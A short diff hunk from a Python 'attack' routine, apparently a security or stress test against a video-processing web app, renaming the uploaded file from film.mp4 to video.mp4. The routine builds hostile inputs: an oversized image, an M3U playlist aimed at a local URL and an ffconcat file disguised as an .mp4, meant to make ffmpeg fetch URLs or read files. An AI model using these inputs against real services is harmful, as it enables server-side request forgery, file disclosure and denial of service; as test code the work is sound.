@@ -52,14 +52,14 @@ def attack(url: str, stop: threading.Event, done: Counter[str]) -> None:
     video = attacker.function("video-file", "video-download")
     grey = data_url(png(Image.fromarray(np.full((4990, 4990), 1000, np.uint16))))
     playlist = b"#EXTM3U\n#EXTINF:1,\nhttp://127.0.0.1:1/x.ts\n#EXT-X-ENDLIST\n"
-    concat = b"ffconcat version 1.0\nfile film.mp4\n"
+    concat = b"ffconcat version 1.0\nfile video.mp4\n"
 
     def labels(number: int) -> str:
         return ",".join(f"{number} {i} {'long ' * 30}" for i in range(100))
 
     def films() -> None:
         for content in (playlist, concat):
-            attacker.ask(video, [{"path": attacker.upload(content, "film.mp4")}, "", ""], f"film{time.monotonic()}")
+            attacker.ask(video, [{"path": attacker.upload(content, "video.mp4")}, "", ""], f"film{time.monotonic()}")
 
     while not stop.is_set():
         now = int(time.monotonic() * 1000)
